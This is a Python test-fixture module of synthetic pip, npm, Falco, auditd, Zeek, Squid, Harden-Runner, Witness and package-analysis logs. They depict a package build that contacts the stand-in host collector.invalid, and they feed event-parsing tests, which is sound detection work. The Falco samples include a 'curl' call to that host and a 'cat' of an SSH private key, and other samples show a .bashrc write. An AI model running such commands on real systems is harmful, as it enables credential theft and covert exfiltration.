"""Small logs of every format, written for these tests: one build that fetches two packages and calls home.

The clock runs from 12:00:00 UTC on 2 March 2026. pip builds ``inertlib`` from 12:00:03 to 12:00:05, and while it does so
something calls collector.invalid at 192.0.2.66.
"""

import base64
import json
from dataclasses import dataclass

#: The first second, as Unix counts.
EPOCH = 1_772_452_800


def lines(*objects: object) -> bytes:
    return b"".join(json.dumps(item).encode() + b"\n" for item in objects)


PIP = b"""\
2026-03-02T12:00:00,100 Using pip 24.0 from /venv/lib/python3.12/site-packages/pip (python 3.12)
2026-03-02T12:00:00,200 Looking in indexes: https://user:secret@registry.example/simple/
2026-03-02T12:00:00,300 Collecting inertlib==1.2.3
2026-03-02T12:00:00,350   Starting new HTTPS connection (1): registry.example:443
2026-03-02T12:00:00,400   Found link https://files.example/p/inertlib-1.2.3.tar.gz#sha256=aa11 (from https://registry.example/simple/inertlib/), version: 1.2.3
2026-03-02T12:00:00,500   Downloading https://files.example/p/inertlib-1.2.3.tar.gz#sha256=aa11 (25 kB)
2026-03-02T12:00:01,000   Installing build dependencies: started
2026-03-02T12:00:01,100   Running command pip subprocess to install build dependencies
2026-03-02T12:00:01,200   Using pip 24.0 from /venv/lib/python3.12/site-packages/pip (python 3.12)
2026-03-02T12:00:01,300   Collecting setuptools>=40.8.0
2026-03-02T12:00:01,400     Downloading https://files.example/p/setuptools-80.0.0-py3-none-any.whl (1.2 MB)
2026-03-02T12:00:01,500   Successfully installed setuptools-80.0.0
2026-03-02T12:00:02,000   Installing build dependencies: finished with status 'done'
2026-03-02T12:00:02,100   Added inertlib==1.2.3 from https://files.example/p/inertlib-1.2.3.tar.gz to build tracker '/tmp/t'
2026-03-02T12:00:03,000   Building wheel for inertlib (pyproject.toml): started
2026-03-02T12:00:03,100   Running command Building wheel for inertlib (pyproject.toml)
2026-03-02T12:00:03,200   Downloading https://elsewhere.invalid/never-1.0.tar.gz (1 kB)
2026-03-02T12:00:05,000   Building wheel for inertlib (pyproject.toml): finished with status 'done'
2026-03-02T12:00:06,000 Collecting quietlib
2026-03-02T12:00:06,100   Downloading quietlib-2.0-py3-none-any.whl (66 kB)
2026-03-02T12:00:07,000 Successfully installed inertlib-1.2.3 quietlib-2.0
"""

NPM = b"""\
0 verbose cli /usr/bin/node /usr/bin/npm
1 info using npm@11.0.0
7 verbose title npm install
8 verbose argv "install"
9 verbose logfile logs-max:10 dir:/root/.npm/_logs/2026-03-02T12_00_00_000Z-
16 http fetch GET 200 https://registry.example/inert-dep 93ms (cache miss)
22 silly placeDep ROOT inert-dep@2.0.1 OK for: app@1.0.0 want: 2.0.1
22 silly placeDep ROOT @scope/quiet@3.0.0 OK for: app@1.0.0 want: ^3.0.0
30 http fetch GET 200 https://user:secret@registry.example/inert-dep/-/inert-dep-2.0.1.tgz?token=x 59ms (cache miss)
31 http fetch GET 200 https://registry.example/@scope%2fquiet/-/quiet-3.0.0.tgz attempt #2 60ms (cache miss)
32 info run inert-dep@2.0.1 postinstall node_modules/inert-dep node install.js --quick
33 info run inert-dep@2.0.1 postinstall { code: 0, signal: null }
37 warn install-scripts   inert-dep@2.0.1 (postinstall: node install.js --quick)
38 verbose cwd /app
42 verbose exit 0
43 info ok
"""

HARDEN_RUNNER = lines(
    {"domainName": "collector.invalid.", "ipAddress": "192.0.2.66", "timestamp": "2026-03-02T12:00:03.900Z"},
    {
        "ipAddress": "192.0.2.66",
        "port": "443",
        "domainName": "collector.invalid.",
        "timestamp": "2026-03-02T12:00:04Z",
        "tool": {
            "name": "python3.12",
            "sha256": "00",
            "parent": {"name": "pip", "sha256": "00", "parent": {"name": "bash", "sha256": "00", "parent": None}},
        },
        "status": "",
    },
    {
        "ipAddress": "192.0.2.67",
        "port": "8080",
        "timestamp": "2026-03-02T12:00:09Z",
        "tool": {"name": "Unknown", "sha256": "Unknown", "parent": None},
        "status": "Dropped",
        "matched_policy": "global-blocklist",
        "reason": "inert",
    },
)

HARDEN_RUNNER_TEXT = b"""\
Mon, 02 Mar 2026 12:00:00 GMT:initialized global feature flags

Mon, 02 Mar 2026 12:00:03 GMT:domain resolved: collector.invalid., ip address: 192.0.2.66, TTL: 60
Mon, 02 Mar 2026 12:00:04 GMT:endpoint called ip address:port 192.0.2.66:443, domain: collector.invalid., pid: 2135, process: python3.12
Mon, 02 Mar 2026 12:00:08 GMT:domain not allowed: other.invalid.
Mon, 02 Mar 2026 12:00:09 GMT:ip address dropped: 192.0.2.67, reason: inert
"""

FALCO = lines(
    {
        "hostname": "runner",
        "output": "12:00:04.000000000: Notice Unexpected connection",
        "priority": "Notice",
        "rule": "Unexpected outbound connection",
        "source": "syscall",
        "tags": ["network"],
        "time": "2026-03-02T12:00:04.000000000Z",
        "output_fields": {
            "evt.time": 1772452804000000000,
            "evt.type": "connect",
            "fd.name": "10.0.0.5:40000->192.0.2.66:443",
            "fd.sip": "192.0.2.66",
            "fd.sport": 443,
            "fd.l4proto": "tcp",
            "proc.name": "python3.12",
            "proc.cmdline": "python3.12 /tmp/pip-install-ab12/inertlib_0123456789abcdef0123456789abcdef/setup.py build",
            "proc.exepath": "/usr/bin/python3.12",
            "proc.pid": 4300,
            "proc.ppid": 4200,
            "proc.pname": "pip",
            "proc.pcmdline": "pip install inertlib",
            "proc.aname[2]": "bash",
            "proc.aname[3]": None,
            "container.id": "host",
        },
    },
    {
        "output": "a program",
        "priority": "Notice",
        "rule": "Program",
        "source": "syscall",
        "time": "2026-03-02T12:00:05Z",
        "output_fields": {
            "evt.type": "execve",
            "proc.cmdline": "curl -s https://collector.invalid/x",
            "proc.exepath": "/usr/bin/curl",
            "proc.pid": 4301,
            "proc.pcmdline": "bash",
        },
    },
    {
        "output": "a file",
        "priority": "Warning",
        "rule": "Read sensitive file",
        "source": "syscall",
        "time": "2026-03-02T12:00:06Z",
        "output_fields": {
            "evt.type": "openat",
            "evt.arg.flags": "O_RDONLY",
            "fd.name": "/root/.ssh/id_ed25519",
            "proc.cmdline": "cat /root/.ssh/id_ed25519",
        },
    },
    {
        "output": "of another source",
        "priority": "Notice",
        "rule": "Audit",
        "source": "k8s_audit",
        "time": "2026-03-02T12:00:06Z",
        "output_fields": {"ka.verb": "create"},
    },
)

AUDITD = (
    b"""\
type=DAEMON_START msg=audit(1772452799.000:1): op=start ver=3.1 format=raw
type=SYSCALL msg=audit(1772452800.100:10): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=100 pid=4200 auid=0 comm="pip" exe="/usr/bin/python3.12" key="exec"
type=EXECVE msg=audit(1772452800.100:10): argc=3 a0="pip" a1="install" a2="inertlib"
type=CWD msg=audit(1772452800.100:10): cwd="/app"
type=PROCTITLE msg=audit(1772452800.100:10): proctitle=70697000696E7374616C6C00696E6572746C6962
type=SYSCALL msg=audit(1772452803.100:20): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=4200 pid=4300 auid=0 comm="python3.12" exe="/usr/bin/python3.12" key="exec"
type=SYSCALL msg=audit(1772452803.200:21): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=2 a2=10 a3=0 items=0 ppid=100 pid=99 comm="sshd" exe="/usr/sbin/sshd" key="net"
type=EXECVE msg=audit(1772452803.100:20): argc=3 a0="python3.12" a1="/usr/lib/pip/_in_process.py" a2=6275696C645F776865656C
type=CWD msg=audit(1772452803.100:20): cwd="/tmp/pip-install-ab12/inertlib_0123456789abcdef0123456789abcdef"
type=SOCKADDR msg=audit(1772452803.200:21): saddr=020000160A0000070000000000000000
"""
    b"type=PROCTITLE msg=audit(1772452803.200:21): proctitle=737368643A206465706C6F79\n"
    b"type=PROCTITLE msg=audit(1772452803.100:20): proctitle=707974686F6E\n"
    b'type=SYSCALL msg=audit(1772452804.000:30): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=2 a2=10 a3=0 items=0 ppid=4200 pid=4300 comm="python3.12" exe="/usr/bin/python3.12" key="net"\x1dARCH=x86_64 SYSCALL=connect\n'
    b"type=SOCKADDR msg=audit(1772452804.000:30): saddr=020001BBC00002420000000000000000\x1dSADDR={ saddr_fam=inet laddr=192.0.2.66 lport=443 }\n"
    b"type=PROCTITLE msg=audit(1772452804.000:30): proctitle=707974686F6E\n"
    b'type=SYSCALL msg=audit(1772452805.000:31): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7f a2=80241 a3=1b6 items=2 ppid=4200 pid=4300 comm="python3.12" exe="/usr/bin/python3.12" key="files"\n'
    b'type=CWD msg=audit(1772452805.000:31): cwd="/root"\n'
    b'type=PATH msg=audit(1772452805.000:31): item=0 name="/root/" inode=1 nametype=PARENT\n'
    b'type=PATH msg=audit(1772452805.000:31): item=1 name=".bashrc" inode=2 nametype=NORMAL\n'
    b"type=PROCTITLE msg=audit(1772452805.000:31): proctitle=707974686F6E\n"
)

ZEEK_CONN = lines(
    {
        "ts": EPOCH + 4.0,
        "uid": "C1",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 40000,
        "id.resp_h": "192.0.2.66",
        "id.resp_p": 443,
        "proto": "tcp",
        "service": "ssl",
        "duration": 0.5,
        "orig_bytes": 500,
        "resp_bytes": 400,
        "conn_state": "SF",
        "history": "ShADad",
    },
    {
        "ts": EPOCH + 3.9,
        "uid": "C2",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 40001,
        "id.resp_h": "10.0.0.1",
        "id.resp_p": 53,
        "proto": "udp",
        "service": "dns",
        "conn_state": "SF",
    },
    {
        "ts": EPOCH + 5.5,
        "uid": "C3",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 5353,
        "id.resp_h": "224.0.0.251",
        "id.resp_p": 5353,
        "proto": "udp",
        "conn_state": "S0",
    },
)

ZEEK_DNS = lines(
    {
        "ts": EPOCH + 3.9,
        "uid": "C2",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 40001,
        "id.resp_h": "10.0.0.1",
        "id.resp_p": 53,
        "proto": "udp",
        "query": "Collector.invalid",
        "qtype_name": "A",
        "answers": ["alias.invalid", "192.0.2.66"],
        "rejected": False,
    }
)

ZEEK_SSL = lines(
    {
        "ts": "2026-03-02T12:00:04.100000Z",
        "uid": "C1",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 40000,
        "id.resp_h": "192.0.2.66",
        "id.resp_p": 443,
        "version": "TLSv13",
        "server_name": "collector.invalid",
        "established": True,
    }
)

ZEEK_TSV = (
    b"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n"
    b"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tconn_state\tlocal_orig\n"
    b"#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\tbool\n"
    b"1772452804.000000\tC1\t10.0.0.5\t40000\t192.0.2.66\t443\ttcp\tssl\tSF\tT\n"
    b"1772452804.500000\tC9\t198.51.100.9\t40000\t10.0.0.5\t22\ttcp\tssh\tSF\tF\n"
    b"#close\t2026-03-02-13-00-00\n"
)

SQUID = (
    b"1772452800.350    120 10.0.0.5 TCP_TUNNEL/200 3921 CONNECT registry.example:443 - HIER_DIRECT/198.51.100.7 -\n"
    b"1772452804.000     45 10.0.0.5 TCP_DENIED/403 3900 CONNECT collector.invalid:443 - HIER_NONE/- text/html\n"
    b"1772452808.000     15 10.0.0.5 TCP_MISS/200 900 GET http://[2001:db8::7]:8080/a - HIER_DIRECT/2001:db8::7 text/html\n"
    b"1772452809.000      0 10.0.0.5 NONE_NONE/400 3900 - error:invalid-request - HIER_NONE/- text/html\n"
)

SQUID_JSON = lines(
    {
        "ts": EPOCH + 0.35,
        "client": "172.30.0.20",
        "host": "registry.example:443",
        "dest": "198.51.100.7:443",
        "method": "CONNECT",
        "status": 200,
        "decision": "TCP_TUNNEL",
        "url": "registry.example:443",
    },
    {
        "ts": EPOCH + 4.0,
        "client": "172.30.0.20",
        "host": "collector.invalid:443",
        "dest": "-:-",
        "method": "CONNECT",
        "status": 403,
        "decision": "TCP_DENIED",
        "url": "collector.invalid:443",
    },
)

TRACE = {
    "network_trace": {
        "start_time": "2026-03-02T12:00:00Z",
        "end_time": "2026-03-02T12:00:09Z",
        "connections": [
            {
                "id": "17",
                "protocol": "https",
                "start_time": "2026-03-02T12:00:04Z",
                "process": {"pid": 4300, "comm": "python3.12", "cgroup_id": 1},
                "source": {"ip": "", "port": 0},
                "destination": {"ip": "192.0.2.66", "port": 443},
                "tls": {"sni": "collector.invalid", "version": "TLS 1.3", "client_hello": {}},
                "bytes_sent": 500,
                "bytes_received": 400,
                "intercepted": False,
            },
            {
                "id": "18",
                "protocol": "https",
                "start_time": "2026-03-02T12:00:01Z",
                "process": {"pid": 4200, "comm": "pip"},
                "source": {"ip": "", "port": 0},
                "destination": {"ip": "198.51.100.7", "port": 443, "hostname": "files.example"},
                "tls": {"sni": "files.example"},
                "http_exchanges": [
                    {
                        "timestamp": "2026-03-02T12:00:01Z",
                        "request": {
                            "method": "GET",
                            "url": "https://files.example/p/quietlib-2.0-py3-none-any.whl?token=x",
                            "host": "files.example",
                            "body": {"size": 0},
                        },
                        "response": {"status_code": 200, "status": "200 OK", "body": {"size": 9, "hash": "AB" * 32}},
                    }
                ],
                "intercepted": True,
            },
        ],
        "summary": {"total_connections": 2},
    }
}
WITNESS = json.dumps(TRACE, indent=1).encode()

STATEMENT = {
    "_type": "https://in-toto.io/Statement/v0.1",
    "predicateType": "https://witness.testifysec.com/attestation-collection/v0.1",
    "predicate": {
        "name": "build",
        "attestations": [{"type": "https://witness.dev/attestations/network-trace/v0.1", "attestation": TRACE}],
    },
}
WITNESS_ENVELOPE = json.dumps(
    {
        "payload": base64.b64encode(json.dumps(STATEMENT).encode()).decode(),
        "payloadType": "application/vnd.in-toto+json",
        "signatures": [{"keyid": "x", "sig": "x"}],
    }
).encode()

RESULT = {
    "Package": {"Ecosystem": "npm", "Name": "inert-dep", "Version": "2.0.1"},
    "CreatedTimestamp": EPOCH,
    "Analysis": {
        "install": {
            "Status": "completed",
            "Stdout": "aGVsbG8=",
            "Files": [
                {"Path": "/root/.bashrc", "Read": False, "Write": True, "Delete": False},
                {"Path": "/app/index.js", "Read": True, "Write": True, "Delete": False},
            ],
            "Sockets": [
                {"Address": "198.51.100.7", "Port": 443, "Hostnames": ["registry.example"]},
                {"Address": "192.0.2.66", "Port": 443, "Hostnames": ["collector.invalid"]},
            ],
            "Commands": [{"Command": ["sh", "-c", "node install.js"], "Environment": ["A=b"]}],
            "DNS": [{"Class": "IN", "Queries": [{"Hostname": "collector.invalid", "Types": ["A", "AAAA"]}]}],
        },
        "import": {"Status": "completed", "Files": [], "Sockets": [], "Commands": None, "DNS": None},
    },
}
PACKAGE_ANALYSIS = json.dumps(RESULT).encode()


@dataclass(frozen=True)
class Sample:
    """A log, and how much it tells."""

    member: str
    text: bytes
    #: Names of the events that it yields, in their order of first appearance.
    events: tuple[str, ...]
    file: str = "a.log"


SAMPLES = {
    "pip": Sample("pip", PIP, ("Contact", "Fetched", "Used", "Window")),
    "npm": Sample(
        "npm", NPM, ("Contact", "Used", "Fetched", "Script", "Ended", "Limit"), "2026-03-02T12_00_00_000Z-debug-0.log"
    ),
    "harden-runner": Sample("harden_runner", HARDEN_RUNNER, ("Lookup", "Contact")),
    "harden-runner text": Sample("harden_runner", HARDEN_RUNNER_TEXT, ("Lookup", "Contact"), "agent.log"),
    "falco": Sample("falco", FALCO, ("Contact", "Started", "Touched")),
    "auditd": Sample("auditd", AUDITD, ("Started", "Contact", "Touched"), "audit.log"),
    "zeek conn": Sample("zeek", ZEEK_CONN, ("Contact",), "conn.log"),
    "zeek dns": Sample("zeek", ZEEK_DNS, ("Lookup",), "dns.log"),
    "zeek ssl": Sample("zeek", ZEEK_SSL, ("Contact",), "ssl.log"),
    "zeek tsv": Sample("zeek", ZEEK_TSV, ("Contact",), "conn.log"),
    "squid": Sample("squid", SQUID, ("Contact",), "access.log"),
    "squid json": Sample("squid", SQUID_JSON, ("Contact",), "audit.jsonl"),
    "witness": Sample("witness", WITNESS, ("Contact", "Fetched"), "trace.json"),
    "witness envelope": Sample("witness", WITNESS_ENVELOPE, ("Contact", "Fetched"), "build.json"),
    "package-analysis": Sample(
        "package_analysis", PACKAGE_ANALYSIS, ("Used", "Touched", "Contact", "Started", "Lookup"), "result.json"
    ),
}
